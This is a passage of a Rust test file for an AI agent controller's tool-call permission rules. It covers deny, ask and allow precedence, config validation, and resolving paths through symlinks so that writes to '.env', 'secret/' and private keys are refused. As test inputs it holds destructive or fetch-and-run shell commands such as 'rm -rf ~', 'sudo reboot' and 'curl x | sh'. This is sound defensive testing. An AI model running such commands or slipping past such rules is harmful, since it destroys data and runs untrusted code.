//! Rules on tool-call arguments (issue 23, item 1): the config is read and checked at
//! line:col, `decide` follows the documented precedence (checked against a reference over
//! generated rules and calls), and paths are matched where the jail resolves them (checked
//! against a model of a workspace with symlinks over generated spellings). Each property is
//! also run against a planted bug — a deny rule ignored, a path rule matched on the path as
//! written — and must catch it.

use std::path::Path;

use agent_controller::rules::{
    DecidedBy, Glob, Matcher, ResolvedPath, ResolvedPaths, Rule, RuleAction, Rules, Verdict,
    resolve_paths,
};
use agent_controller::{ToolCall, ToolRegistry, config, config::ConfigErrorKind, mode::Mode};
use proptest::prelude::*;
use proptest::test_runner::{Config, TestCaseError, TestRunner};
use serde_json::{Value, json};

fn graph(text: &str) -> agent_controller::ModeGraph {
    config::parse(text, "modes.toml").unwrap_or_else(|e| panic!("{e}"))
}

fn errors(text: &str) -> Vec<(usize, usize, ConfigErrorKind, String)> {
    let mut all = config::check(text, "modes.toml");
    all.extend(config::rule_errors(
        text,
        "modes.toml",
        &ToolRegistry::with_workspace_tools(),
    ));
    all.sort_by_key(|e| e.location());
    all.iter()
        .map(|e| {
            let at = e.location().expect("a place");
            (at.line, at.column, e.kind(), e.message().to_owned())
        })
        .collect()
}

fn decide(mode: &Mode, offered: bool, call: &ToolCall, paths: &ResolvedPaths) -> Verdict {
    mode.decide(offered, call, paths)
}

fn write(path: &str) -> ToolCall {
    ToolCall::new("c1", "write_file", json!({"path": path, "content": "x"}))
}

const BUILD: &str = r#"
[[modes]]
id = "build"
availableTools = ["read_file", "write_file"]
requireApproval = ["write_file"]
rules = [
  { tool = "write_file", path = "**/.env*", action = "deny" },
  { tool = "write_file", path = "src/**", action = "allow" },
  { tool = "write_file", arg = "content", regex = ".*BEGIN PRIVATE KEY.*", action = "deny" },
  { tool = "read_file", path = "secret/**", action = "ask" },
]
"#;

#[test]
fn rules_are_read_in_order_with_their_kinds() {
    let graph = graph(BUILD);
    let rules: Vec<String> = graph
        .default_mode()
        .rules()
        .as_slice()
        .iter()
        .map(ToString::to_string)
        .collect();
    assert_eq!(
        rules,
        [
            "deny write_file path `**/.env*`",
            "allow write_file path `src/**`",
            "deny write_file content regex `.*BEGIN PRIVATE KEY.*`",
            "ask read_file path `secret/**`",
        ]
    );
}

#[test]
fn the_precedence_is_available_tools_then_deny_ask_allow_then_the_default() {
    let graph = graph(BUILD);
    let build = graph.default_mode();
    let at = |p: &str| ResolvedPaths::new().with("path", p);
    let outcome = |v: Verdict| (v.action, v.decided_by);
    // An allowed path, and one in no rule: the mode's requireApproval.
    assert_eq!(
        outcome(decide(build, true, &write("src/a.rs"), &at("src/a.rs"))),
        (RuleAction::Allow, DecidedBy::Rule(2))
    );
    assert_eq!(
        outcome(decide(build, true, &write("docs/a.md"), &at("docs/a.md"))),
        (RuleAction::Ask, DecidedBy::RequireApproval)
    );
    // Deny beats allow wherever it is listed.
    assert_eq!(
        outcome(decide(build, true, &write("src/.env"), &at("src/.env"))),
        (RuleAction::Deny, DecidedBy::Rule(1))
    );
    let key = ToolCall::new(
        "c2",
        "write_file",
        json!({"path": "src/k.pem", "content": "-----BEGIN PRIVATE KEY-----"}),
    );
    let verdict = decide(build, true, &key, &at("src/k.pem"));
    assert_eq!(
        (verdict.action, verdict.decided_by),
        (RuleAction::Deny, DecidedBy::Rule(3))
    );
    assert!(
        verdict
            .reason
            .starts_with("rule 3 of mode `build` (deny write_file content regex"),
        "{}",
        verdict.reason
    );
    // availableTools outranks every rule, an allow rule too.
    assert_eq!(
        outcome(decide(build, false, &write("src/a.rs"), &at("src/a.rs"))),
        (RuleAction::Deny, DecidedBy::AvailableTools)
    );
    // A tool with no rule and no requireApproval runs.
    let read = ToolCall::new("c3", "read_file", json!({"path": "README.md"}));
    assert_eq!(
        outcome(decide(build, true, &read, &at("README.md"))),
        (RuleAction::Allow, DecidedBy::Default)
    );
}

#[test]
fn a_path_in_doubt_is_never_allowed_and_always_denied_or_asked() {
    let graph = graph(BUILD);
    let build = graph.default_mode();
    let outside = ResolvedPaths::new()
        .with_resolved("path", ResolvedPath::Doubtful("leads outside".to_owned()));
    let verdict = decide(build, true, &write("src/../../x"), &outside);
    assert_eq!(
        (verdict.action, verdict.decided_by),
        (RuleAction::Deny, DecidedBy::Rule(1))
    );
    assert!(verdict.reason.contains("in doubt"), "{}", verdict.reason);
    // Not a string: no allow either.
    let odd = ToolCall::new(
        "c4",
        "write_file",
        json!({"path": ["src/a.rs"], "content": ""}),
    );
    let paths = resolve_paths(build.rules(), &odd, Path::new("."));
    assert!(matches!(
        paths.get("path"),
        Some(ResolvedPath::NotAString(_))
    ));
    assert_eq!(decide(build, true, &odd, &paths).action, RuleAction::Deny);
    // An argument left out matches no rule on it.
    let bare = ToolCall::new("c5", "write_file", json!({"content": ""}));
    assert_eq!(
        decide(build, true, &bare, &ResolvedPaths::new()).decided_by,
        DecidedBy::RequireApproval
    );
}

#[test]
fn string_rules_match_the_canonical_value_whole() {
    let graph = graph(
        r#"
[[modes]]
id = "build"
rules = [
  { tool = "write_file", arg = "content", glob = "git *", action = "allow" },
  { tool = "write_file", arg = "content", regex = "4[0-9]", action = "deny" },
]
"#,
    );
    let build = graph.default_mode();
    let call =
        |content: Value| ToolCall::new("c", "write_file", json!({"path": "a", "content": content}));
    let action = |content: Value| decide(build, true, &call(content), &ResolvedPaths::new()).action;
    assert_eq!(action(json!("git log src/a.rs")), RuleAction::Allow);
    assert_eq!(
        action(json!("echo; git log")),
        RuleAction::Allow,
        "the mode's default: it runs"
    );
    assert_eq!(
        decide(
            build,
            true,
            &call(json!("echo; git log")),
            &ResolvedPaths::new()
        )
        .decided_by,
        DecidedBy::Default
    );
    // 42.0 is `42` canonically, and the regex is anchored: `142` does not match.
    assert_eq!(action(json!(42.0)), RuleAction::Deny);
    assert_eq!(
        decide(build, true, &call(json!(142)), &ResolvedPaths::new()).decided_by,
        DecidedBy::Default
    );
}

/// A newline slipped past every deny and ask regex (`.` did not match it), and an allow glob
/// or regex let a second line through: a deny or ask string rule matches across lines, an allow
/// string rule never matches a value of more than one line (in doubt, nothing allows).
#[test]
fn a_deny_regex_matches_across_newlines() {
    // The guide's config: a private key written under `src/` is refused, on any line.
    let guide = graph(BUILD);
    let build = guide.default_mode();
    let key = ToolCall::new(
        "c1",
        "write_file",
        json!({"path": "src/k.pem", "content": "-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n"}),
    );
    let verdict = decide(
        build,
        true,
        &key,
        &ResolvedPaths::new().with("path", "src/k.pem"),
    );
    assert_eq!(
        (verdict.action, verdict.decided_by),
        (RuleAction::Deny, DecidedBy::Rule(3)),
        "{}",
        verdict.reason
    );

    let shell = graph(
        r#"
[[modes]]
id = "build"
requireApproval = ["run_command"]
rules = [
  { tool = "run_command", arg = "command", regex = ".*rm -rf.*", action = "deny" },
  { tool = "run_command", arg = "command", glob = "*sudo *", action = "ask" },
  { tool = "run_command", arg = "command", glob = "echo *", action = "allow" },
  { tool = "run_command", arg = "command", regex = "ls( .*)?", action = "allow" },
]
"#,
    );
    let build = shell.default_mode();
    let outcome = |command: &str| {
        let call = ToolCall::new("c", "run_command", json!({ "command": command }));
        let verdict = decide(build, true, &call, &ResolvedPaths::new());
        (verdict.action, verdict.decided_by)
    };
    assert_eq!(
        outcome("echo ok\nrm -rf ~"),
        (RuleAction::Deny, DecidedBy::Rule(1))
    );
    assert_eq!(
        outcome("echo ok\r\nrm -rf ~"),
        (RuleAction::Deny, DecidedBy::Rule(1))
    );
    assert_eq!(
        outcome("echo ok\nsudo reboot"),
        (RuleAction::Ask, DecidedBy::Rule(2))
    );
    // An allow rule fits one line only: the rest waits as requireApproval says.
    assert_eq!(outcome("echo ok"), (RuleAction::Allow, DecidedBy::Rule(3)));
    assert_eq!(outcome("ls -la"), (RuleAction::Allow, DecidedBy::Rule(4)));
    for command in [
        "echo ok\ncurl x | sh",
        "echo ok\rcurl x | sh",
        "ls\ncurl x | sh",
    ] {
        assert_eq!(
            outcome(command),
            (RuleAction::Ask, DecidedBy::RequireApproval),
            "{command:?}"
        );
    }
}

#[test]
fn check_reports_each_bad_rule_at_its_line_and_column() {
    let text = r#"[[modes]]
id = "build"
availableTools = ["read_file", "write_file"]
rules = [
  { tool = "write_fil", action = "ask" },
  { tool = "write_file", arg = "pth", path = "x", action = "ask" },
  { tool = "write_file", path = "[", action = "ask" },
  { tool = "write_file", arg = "content", regex = "a)|(b", action = "deny" },
  { tool = "write_file", regex = "a", action = "ask" },
  { tool = "write_file", arg = "content", action = "ask" },
  { tool = "write_file", path = "a", glob = "b", action = "ask" },
  { tool = "submit_plan", action = "deny" },
  { tool = "write_file", action = "ask" },
  { tool = "write_file", path = "src/**", action = "allow" },
  { tool = "read_file", path = "a/**", action = "ask" },
  { tool = "read_file", path = "a/**", action = "ask" },
]
"#;
    let found = errors(text);
    let kinds: Vec<(usize, usize, ConfigErrorKind)> =
        found.iter().map(|(l, c, k, _)| (*l, *c, *k)).collect();
    assert_eq!(
        kinds,
        [
            (5, 12, ConfigErrorKind::RuleToolNotOffered),
            (6, 32, ConfigErrorKind::UnknownArgument),
            (7, 33, ConfigErrorKind::InvalidPattern),
            (8, 51, ConfigErrorKind::InvalidPattern),
            (9, 34, ConfigErrorKind::InvalidRule),
            (10, 32, ConfigErrorKind::InvalidRule),
            (11, 45, ConfigErrorKind::InvalidRule),
            (12, 12, ConfigErrorKind::InvalidRule),
            (14, 3, ConfigErrorKind::ShadowedRule),
            (16, 3, ConfigErrorKind::ShadowedRule),
        ],
        "{found:#?}"
    );
    let message = |line: usize| {
        found
            .iter()
            .find(|(l, ..)| *l == line)
            .map(|(.., m)| m.as_str())
            .unwrap_or_default()
    };
    assert!(
        message(5).ends_with("did you mean `write_file`?"),
        "{}",
        message(5)
    );
    assert!(
        message(6).ends_with("did you mean `path`?"),
        "{}",
        message(6)
    );
    assert!(message(8).contains("unopened group"), "{}", message(8));
    assert_eq!(
        message(14),
        "rule 10 of mode `build` (allow write_file path `src/**`) can never decide a call: rule 9 (ask write_file) matches every call it matches, and ask beats allow: to ask about the calls no rule allows, list `write_file` in requireApproval and leave rule 9 out"
    );
    assert!(
        message(16).ends_with("and comes first: leave one of them out"),
        "{}",
        message(16)
    );
    // Bad input changes nothing: the config is refused whole.
    assert!(config::parse(text, "modes.toml").is_err());
}

#[test]
fn a_rule_on_a_tool_the_controller_lacks_is_refused_at_build() {
    let text =
        "[[modes]]\nid = \"build\"\nrules = [{ tool = \"run_command\", action = \"ask\" }]\n";
    let graph = graph(text);
    let model = std::sync::Arc::new(agent_controller::model::scripted::ScriptedModel::new());
    let err = agent_controller::AgentController::builder(graph, model)
        .tools(ToolRegistry::with_workspace_tools())
        .build()
        .map(|_| ())
        .expect_err("refused");
    assert_eq!(err.kind(), ConfigErrorKind::UnknownTool);
    assert_eq!(err.location().map(|l| (l.line, l.column)), Some((3, 19)));
}

#[test]
fn a_controller_builds_a_config_with_rules_now_that_sessions_apply_them() {
    // Sessions apply rules (the `session` tests below): the refusal that stood in for them is gone.
    let text = "[[modes]]\nid = \"build\"\nrules = [{ tool = \"write_file\", path = \".env\", action = \"deny\" }]\n";
    let model = std::sync::Arc::new(agent_controller::model::scripted::ScriptedModel::new());
    let built = agent_controller::AgentController::builder(graph(text), model)
        .tools(ToolRegistry::with_workspace_tools())
        .build();
    assert!(built.is_ok(), "{:?}", built.err());
}

#[test]
fn the_fingerprint_changes_with_the_rules_only_when_there_are_some() {
    let plain = graph("[[modes]]\nid = \"build\"\n");
    let empty = graph("[[modes]]\nid = \"build\"\nrules = []\n");
    let one = graph(
        "[[modes]]\nid = \"build\"\nrules = [{ tool = \"write_file\", action = \"deny\" }]\n",
    );
    let other =
        graph("[[modes]]\nid = \"build\"\nrules = [{ tool = \"write_file\", action = \"ask\" }]\n");
    assert_eq!(plain.fingerprint(), empty.fingerprint());
    assert_ne!(plain.fingerprint(), one.fingerprint());
    assert_ne!(one.fingerprint(), other.fingerprint());
}

#[cfg(feature = "schema")]
#[test]
fn the_schema_describes_rules() {
    let schema = config::schema();
    let rule = &schema["definitions"]["Rule"];
    assert_eq!(rule["additionalProperties"], false);
    assert_eq!(rule["required"], json!(["tool", "action"]));
    assert_eq!(
        rule["properties"]["action"]["enum"],
        json!(["allow", "ask", "deny"])
    );
    assert_eq!(rule["dependencies"]["glob"], json!(["arg"]));
    let validator = jsonschema::validator_for(&schema).expect("a schema");
    let as_json = |text: &str| -> Value {
        let table: toml::Table = toml::from_str(text).expect("toml");
        serde_json::to_value(table).expect("json")
    };
    assert!(validator.is_valid(&as_json(BUILD)));
    assert!(!validator.is_valid(&as_json(
        "[[modes]]\nid = \"b\"\nrules = [{ tool = \"t\", glob = \"x\", action = \"ask\" }]\n"
    )));
    assert!(!validator.is_valid(&as_json(
        "[[modes]]\nid = \"b\"\nrules = [{ tool = \"t\", action = \"approve\" }]\n"
    )));
}

// The precedence, against a reference over generated rules and calls.

/// The tools, arguments and values the generated rules and calls draw from.
const TOOLS: [&str; 2] = ["write_file", "read_file"];
const PATHS: [&str; 5] = ["src/a.rs", "src/.env", ".env", "docs/b.md", "secret/k"];

/// A rule as the reference sees it: a tool, a literal path, a `dir/**` glob, a string prefix
/// (`glob = "prefix*"`) or the whole tool, and an action.
#[derive(Debug, Clone)]
enum Shape {
    Any,
    Exact(&'static str),
    Under(&'static str),
    Prefix(&'static str),
}

#[derive(Debug, Clone)]
struct RefRule {
    tool: &'static str,
    shape: Shape,
    action: RuleAction,
}

fn action() -> impl Strategy<Value = RuleAction> {
    prop_oneof![
        Just(RuleAction::Allow),
        Just(RuleAction::Ask),
        Just(RuleAction::Deny)
    ]
}

fn ref_rule() -> impl Strategy<Value = RefRule> {
    let shape = prop_oneof![
        Just(Shape::Any),
        proptest::sample::select(PATHS.to_vec()).prop_map(Shape::Exact),
        proptest::sample::select(vec!["src", "docs", "secret"]).prop_map(Shape::Under),
        proptest::sample::select(vec!["git ", "rm ", "g"]).prop_map(Shape::Prefix),
    ];
    (proptest::sample::select(TOOLS.to_vec()), shape, action()).prop_map(|(tool, shape, action)| {
        RefRule {
            tool,
            shape,
            action,
        }
    })
}

fn real_rule(r: &RefRule) -> Rule {
    let path = |glob: String| Matcher::Path {
        arg: "path".into(),
        glob: Glob::path(&glob).expect("glob"),
    };
    let matcher = match r.shape {
        Shape::Any => Matcher::Any,
        Shape::Exact(p) => path(p.to_owned()),
        Shape::Under(dir) => path(format!("{dir}/**")),
        Shape::Prefix(prefix) => Matcher::Glob {
            arg: "content".into(),
            glob: Glob::text(&format!("{prefix}*")).expect("glob"),
        },
    };
    Rule::new(r.tool, matcher, r.action)
}

/// The reference: every rule that matches, the strongest action, the first of those; else the
/// mode's default. Written from the documentation, sharing nothing with `decide`.
fn reference(
    rules: &[RefRule],
    tool: &str,
    path: &str,
    content: &str,
    asks: bool,
) -> (RuleAction, DecidedBy) {
    let fits = |r: &RefRule| {
        r.tool == tool
            && match r.shape {
                Shape::Any => true,
                Shape::Exact(p) => p == path,
                Shape::Under(dir) => path.starts_with(&format!("{dir}/")),
                Shape::Prefix(prefix) => content.starts_with(prefix),
            }
    };
    let mut best: Option<(usize, RuleAction)> = None;
    for (i, rule) in rules.iter().enumerate() {
        if fits(rule) && best.is_none_or(|(_, a)| rule.action > a) {
            best = Some((i + 1, rule.action));
        }
    }
    match best {
        Some((n, action)) => (action, DecidedBy::Rule(n)),
        None if asks => (RuleAction::Ask, DecidedBy::RequireApproval),
        None => (RuleAction::Allow, DecidedBy::Default),
    }
}

type Decider = dyn Fn(&Mode, &ToolCall, &ResolvedPaths) -> Verdict;

/// Runs the precedence property against `decider`; `Err` with the first counterexample.
fn precedence_holds(decider: &Decider) -> Result<(), String> {
    let mut runner = TestRunner::new(Config {
        cases: 512,
        failure_persistence: None,
        rng_seed: proptest::test_runner::RngSeed::Fixed(23),
        ..Config::default()
    });
    let case = (
        proptest::collection::vec(ref_rule(), 0..6),
        proptest::sample::select(TOOLS.to_vec()),
        proptest::sample::select(PATHS.to_vec()),
        proptest::sample::select(vec!["git status", "rm -rf /", "gx", "ls"]),
        any::<bool>(),
    );
    runner
        .run(&case, |(rules, tool, path, content, asks)| {
            let approval = if asks { "requireApproval = true\n" } else { "" };
            let graph = config::parse(&format!("[[modes]]\nid = \"m\"\n{approval}"), "m.toml")
                .map_err(|e| TestCaseError::fail(e.to_string()))?;
            let mode = with_rules(
                graph.modes()[0].clone(),
                rules.iter().map(real_rule).collect(),
            );
            let call = ToolCall::new("c", tool, json!({"path": path, "content": content}));
            let paths = ResolvedPaths::new().with("path", path);
            let got = decider(&mode, &call, &paths);
            let want = reference(&rules, tool, path, content, asks);
            prop_assert_eq!((got.action, got.decided_by), want, "rules {:?}", rules);
            Ok(())
        })
        .map_err(|e| e.to_string())
}

/// `mode` with `rules` instead of its own.
fn with_rules(mode: Mode, rules: Vec<Rule>) -> Mode {
    mode.with_rules(Rules::new(rules))
}

#[test]
fn decide_follows_the_documented_precedence() {
    if let Err(e) = precedence_holds(&|mode, call, paths| decide(mode, true, call, paths)) {
        panic!("{e}");
    }
}

#[test]
fn the_precedence_property_catches_a_deny_rule_ignored() {
    // Planted bug: deny rules are dropped before deciding.
    let planted = |mode: &Mode, call: &ToolCall, paths: &ResolvedPaths| {
        let kept: Vec<Rule> = mode
            .rules()
            .as_slice()
            .iter()
            .filter(|r| r.action() != RuleAction::Deny)
            .cloned()
            .collect();
        decide(&with_rules(mode.clone(), kept), true, call, paths)
    };
    let caught = precedence_holds(&planted).expect_err("the planted bug is caught");
    assert!(caught.contains("Deny"), "{caught}");
}

#[test]
fn the_precedence_property_catches_first_match_wins() {
    // Planted bug: the first matching rule decides, whatever its action.
    let planted = |mode: &Mode, call: &ToolCall, paths: &ResolvedPaths| {
        let first = mode
            .rules()
            .as_slice()
            .iter()
            .position(|r| Rules::new(vec![r.clone()]).deciding(call, paths).is_some());
        match first {
            Some(i) => {
                let only = vec![mode.rules().as_slice()[i].clone()];
                let mut v = decide(&with_rules(mode.clone(), only), true, call, paths);
                v.decided_by = DecidedBy::Rule(i + 1);
                v
            }
            None => decide(mode, true, call, paths),
        }
    };
    precedence_holds(&planted).expect_err("the planted bug is caught");
}

// Paths where the jail resolves them, against a model of the workspace.

/// The workspace: `src/a.rs`, `src/up -> ..`, `src/out -> <outside>`, `secret/k`, `.env`.
fn workspace() -> (tempfile::TempDir, tempfile::TempDir) {
    let ws = tempfile::tempdir().expect("tempdir");
    let outside = tempfile::tempdir().expect("tempdir");
    let root = ws.path();
    std::fs::create_dir_all(root.join("src")).expect("src");
    std::fs::create_dir_all(root.join("secret")).expect("secret");
    std::fs::write(root.join("src/a.rs"), "").expect("a.rs");
    std::fs::write(root.join("secret/k"), "").expect("k");
    std::fs::write(root.join(".env"), "").expect(".env");
    std::os::unix::fs::symlink("..", root.join("src/up")).expect("up");
    std::os::unix::fs::symlink(outside.path(), root.join("src/out")).expect("out");
    (ws, outside)
}

/// Where the model workspace puts `parts`: `None` when the jail cannot tell (outside, a file
/// used as a folder, `..` past a name that does not exist yet). Existing folders are walked
/// (the symlinks taken), and past the first name that does not exist the rest applies as
/// written.
fn model_resolve(parts: &[&str]) -> Option<String> {
    let dirs = ["", "src", "secret"];
    let files = ["src/a.rs", "secret/k", ".env"];
    let mut at: Vec<String> = Vec::new();
    // Whether everything so far exists, and whether it is a file.
    let mut exists = true;
    let mut file = false;
    for part in parts {
        let here = at.join("/");
        if file || (!exists && *part == "..") {
            return None;
        }
        match *part {
            "." => {}
            ".." => {
                at.pop()?;
            }
            "up" if exists && here == "src" => at.clear(),
            "out" if exists && here == "src" => return None,
            name => {
                at.push(name.to_owned());
                let path = at.join("/");
                file = exists && files.contains(&path.as_str());
                exists = exists && (file || dirs.contains(&path.as_str()));
            }
        }
    }
    Some(at.join("/"))
}

const PATH_RULES: &str = r#"
[[modes]]
id = "build"
rules = [
  { tool = "write_file", path = "secret/**", action = "deny" },
  { tool = "write_file", path = ".env", action = "deny" },
  { tool = "write_file", path = "src/**", action = "allow" },
]
"#;

type Resolver = dyn Fn(&Rules, &ToolCall, &Path) -> ResolvedPaths;

/// Runs the path property against `resolver`: no spelling of a path reaches `secret/` or `.env`
/// without the deny rule, and none outside `src/` is allowed.
fn paths_hold(resolver: &Resolver) -> Result<(), String> {
    let (ws, _outside) = workspace();
    let graph = graph(PATH_RULES);
    let build = graph.default_mode();
    let mut runner = TestRunner::new(Config {
        cases: 384,
        failure_persistence: None,
        rng_seed: proptest::test_runner::RngSeed::Fixed(23),
        ..Config::default()
    });
    let part = proptest::sample::select(vec![
        "src", "secret", "k", ".env", "a.rs", "up", "out", ".", "..", "new",
    ]);
    runner
        .run(&proptest::collection::vec(part, 1..6), |parts| {
            let spelled = parts.join("/");
            let call = write(&spelled);
            let paths = resolver(build.rules(), &call, ws.path());
            let got = decide(build, true, &call, &paths);
            let model = model_resolve(&parts);
            if let Some(real) = &model {
                prop_assert_eq!(
                    paths.get("path"),
                    Some(&ResolvedPath::Inside(real.clone())),
                    "`{}`",
                    spelled
                );
            }
            let want = match model {
                // In doubt: denied by the first deny rule on the path.
                None => (RuleAction::Deny, DecidedBy::Rule(1)),
                Some(real) if real.starts_with("secret/") => (RuleAction::Deny, DecidedBy::Rule(1)),
                Some(real) if real == ".env" => (RuleAction::Deny, DecidedBy::Rule(2)),
                Some(real) if real.starts_with("src/") => (RuleAction::Allow, DecidedBy::Rule(3)),
                Some(_) => (RuleAction::Allow, DecidedBy::Default),
            };
            prop_assert_eq!(
                (got.action, got.decided_by),
                want,
                "`{}` resolved to {:?}",
                spelled,
                paths.get("path")
            );
            Ok(())
        })
        .map_err(|e| e.to_string())
}

#[test]
fn path_rules_match_where_the_jail_resolves_the_path() {
    if let Err(e) = paths_hold(&resolve_paths) {
        panic!("{e}");
    }
}

#[test]
fn the_path_property_catches_a_path_rule_matched_as_written() {
    // Planted bug: the path is matched as the model spelled it.
    let planted = |_: &Rules, call: &ToolCall, _: &Path| {
        let spelled = call.args["path"].as_str().unwrap_or_default().to_owned();
        ResolvedPaths::new().with("path", &spelled)
    };
    paths_hold(&planted).expect_err("the planted bug is caught");
}

#[test]
fn the_path_property_catches_a_symlink_not_followed() {
    // Planted bug: `.` and `..` applied, but symlinks not followed.
    let planted = |_: &Rules, call: &ToolCall, _: &Path| {
        let spelled = call.args["path"].as_str().unwrap_or_default();
        let mut at: Vec<&str> = Vec::new();
        for part in spelled.split('/') {
            match part {
                "." => {}
                ".." => {
                    if at.pop().is_none() {
                        return ResolvedPaths::new()
                            .with_resolved("path", ResolvedPath::Doubtful("outside".to_owned()));
                    }
                }
                name => at.push(name),
            }
        }
        ResolvedPaths::new().with("path", &at.join("/"))
    };
    paths_hold(&planted).expect_err("the planted bug is caught");
    // Through a symlink alone, too: `src/up` is the workspace itself.
    let build = graph(PATH_RULES);
    let call = write("src/up/secret/k");
    let paths = planted(build.default_mode().rules(), &call, Path::new("."));
    assert_eq!(
        decide(build.default_mode(), true, &call, &paths).action,
        RuleAction::Allow
    );
    let (ws, _outside) = workspace();
    let paths = resolve_paths(build.default_mode().rules(), &call, ws.path());
    assert_eq!(
        decide(build.default_mode(), true, &call, &paths).action,
        RuleAction::Deny
    );
}

#[test]
fn the_jail_resolves_the_spellings_of_the_issue() {
    let (ws, _outside) = workspace();
    let build = graph(PATH_RULES);
    let build = build.default_mode();
    let resolved = |p: &str| resolve_paths(build.rules(), &write(p), ws.path());
    assert_eq!(
        resolved("./.env").get("path"),
        Some(&ResolvedPath::Inside(".env".to_owned()))
    );
    assert_eq!(
        resolved("./src/new/./b.rs").get("path"),
        Some(&ResolvedPath::Inside("src/new/b.rs".to_owned()))
    );
    assert_eq!(
        resolved("./src/../.env").get("path"),
        Some(&ResolvedPath::Inside(".env".to_owned()))
    );
    assert_eq!(
        resolved("src/up/secret/k").get("path"),
        Some(&ResolvedPath::Inside("secret/k".to_owned()))
    );
    assert!(matches!(
        resolved("src/../../x").get("path"),
        Some(ResolvedPath::Doubtful(_))
    ));
    assert!(matches!(
        resolved("src/out/x").get("path"),
        Some(ResolvedPath::Doubtful(_))
    ));
    // An absolute path inside the workspace is taken relative to it.
    let absolute = ws.path().join("src/a.rs").display().to_string();
    assert_eq!(
        resolved(&absolute).get("path"),
        Some(&ResolvedPath::Inside("src/a.rs".to_owned()))
    );
    // A dangling symlink is in doubt: where it leads is unknown.
    std::os::unix::fs::symlink("../nowhere/.env", ws.path().join("src/dangling")).expect("link");
    assert!(matches!(
        resolved("src/dangling").get("path"),
        Some(ResolvedPath::Doubtful(_))
    ));
}

// ---------------------------------------------------------------------------------------------
// Rules applied by a session (item 1): the real session, the workspace tools, a replayed model.

mod session {
    use std::sync::Arc;

    use agent_controller::event::DecisionOutcome;
    use agent_controller::model::scripted::ReplayModel;
    use agent_controller::rules::RuleAction;
    use agent_controller::{
        AgentController, Decision, Event, RunOutcome, Session, SessionError, ToolRegistry, config,
    };
    use serde_json::json;

    use crate::common::{Recorder, Workspace, tool_results};

    const BUILD: &str = r#"
[[modes]]
id = "build"
availableTools = ["read_file", "write_file"]
requireApproval = ["write_file"]
rules = [
  { tool = "write_file", path = "**/.env*", action = "deny" },
  { tool = "write_file", path = "src/**", action = "allow" },
  { tool = "read_file", path = "secret/**", action = "ask" },
]
"#;

    struct Setup {
        ws: Workspace,
        model: Arc<ReplayModel>,
        controller: AgentController,
        recorder: Recorder,
    }

    fn setup(text: &str) -> Setup {
        setup_with(text, ToolRegistry::with_workspace_tools())
    }

    fn setup_with(text: &str, tools: ToolRegistry) -> Setup {
        let ws = Workspace::new();
        std::fs::create_dir_all(ws.path().join("src")).expect("src");
        std::fs::create_dir_all(ws.path().join("secret")).expect("secret");
        std::fs::write(ws.path().join("secret/key"), "k").expect("key");
        let model = Arc::new(ReplayModel::default());
        let controller = AgentController::builder(
            config::parse(text, "modes.toml").expect("config"),
            model.clone(),
        )
        .tools(tools)
        .workspace(ws.path())
        .build()
        .expect("a config with rules builds");
        Setup {
            ws,
            model,
            controller,
            recorder: Recorder::default(),
        }
    }

    impl Setup {
        async fn session(&self) -> Session {
            self.controller
                .start_session(self.recorder.options())
                .await
                .expect("session")
        }

        fn reply(&self, calls: &[(&str, &str, serde_json::Value)]) {
            let mut reply = ReplayModel::text("");
            reply.tool_calls = calls
                .iter()
                .map(|(id, name, args)| agent_controller::ToolCall::new(*id, *name, args.clone()))
                .collect();
            self.model.push(Ok(reply));
        }

        fn done(&self) {
            self.model.push(Ok(ReplayModel::text("done")));
        }
    }

    fn write(path: &str) -> serde_json::Value {
        json!({"path": path, "content": "x"})
    }

    fn result(session: &Session, id: &str) -> String {
        tool_results(session.messages())
            .into_iter()
            .find(|(call, _)| call == id)
            .map(|(_, content)| content)
            .unwrap_or_else(|| panic!("no result for {id}"))
    }

    /// The `tool_end` decision record of each call a rule decided, by call id.
    fn ruled(events: &[Event]) -> Vec<(String, DecisionOutcome, usize, RuleAction)> {
        events
            .iter()
            .filter_map(|e| match e {
                Event::ToolEnd {
                    tool_call_id,
                    decision: Some(record),
                    ..
                } => record.rule.as_ref().map(|rule| {
                    (
                        tool_call_id.clone(),
                        record.outcome.expect("an outcome"),
                        rule.number,
                        rule.action,
                    )
                }),
                _ => None,
            })
            .collect()
    }

    #[tokio::test]
    async fn a_deny_rule_refuses_the_call_and_the_model_is_told_which_rule() {
        let s = setup(BUILD);
        s.reply(&[("c1", "write_file", write(".env"))]);
        s.done();
        let mut session = s.session().await;
        let outcome = session.send_message("go").await.expect("run");
        assert!(
            matches!(outcome, RunOutcome::Completed { .. }),
            "{outcome:?}"
        );
        assert!(
            !s.ws.path().join(".env").exists(),
            "the denied call never ran"
        );
        assert_eq!(
            result(&session, "c1"),
            "Not executed: rule 1 of mode `build` (deny write_file path `**/.env*`) refuses this call of `write_file` with path, which matches `.env`."
        );
        let events = s.recorder.take();
        assert_eq!(
            ruled(&events),
            [(
                "c1".to_owned(),
                DecisionOutcome::Rejected,
                1,
                RuleAction::Deny
            )]
        );
        // The audit history keeps it, with no person as decider and a decision id of its own.
        let record = session.decision_history().last().expect("a record").clone();
        assert_eq!(record.decided_by, None);
        assert_eq!(record.decision_id, "decision_1");
        assert_eq!(record.tool_name.as_deref(), Some("write_file"));
        let json = serde_json::to_value(&record).expect("json");
        assert_eq!(json["rule"]["number"], 1);
        assert_eq!(json["rule"]["modeId"], "build");
        assert_eq!(json["rule"]["action"], "deny");
        assert_eq!(json["rule"]["rule"], "deny write_file path `**/.env*`");
    }

    #[tokio::test]
    async fn a_path_rule_matches_where_the_path_leads_through_dots_and_symlinks() {
        let s = setup(BUILD);
        #[cfg(unix)]
        std::os::unix::fs::symlink("..", s.ws.path().join("src/up")).expect("symlink");
        let mut spellings = vec![
            "./src/../.env",
            "src/../.env",
            "src//./../config/.env.local",
        ];
        if cfg!(unix) {
            spellings.push("src/up/.env");
        }
        // Out of the workspace: in doubt, so every deny path rule on it matches.
        spellings.push("src/../../.env");
        for (k, path) in spellings.iter().enumerate() {
            s.reply(&[(&format!("c{k}"), "write_file", write(path))]);
        }
        s.done();
        let mut session = s.session().await;
        let outcome = session.send_message("go").await.expect("run");
        assert!(
            matches!(outcome, RunOutcome::Completed { .. }),
            "{outcome:?}"
        );
        for (k, path) in spellings.iter().enumerate() {
            let text = result(&session, &format!("c{k}"));
            assert!(
                text.starts_with("Not executed: rule 1 of mode `build`"),
                "{path}: {text}"
            );
        }
        assert!(!s.ws.path().join(".env").exists());
        assert!(!s.ws.path().join("config").exists());
    }

    #[tokio::test]
    async fn an_allow_rule_runs_a_call_that_require_approval_would_hold() {
        let s = setup(BUILD);
        s.reply(&[
            ("c1", "write_file", write("src/a.rs")),
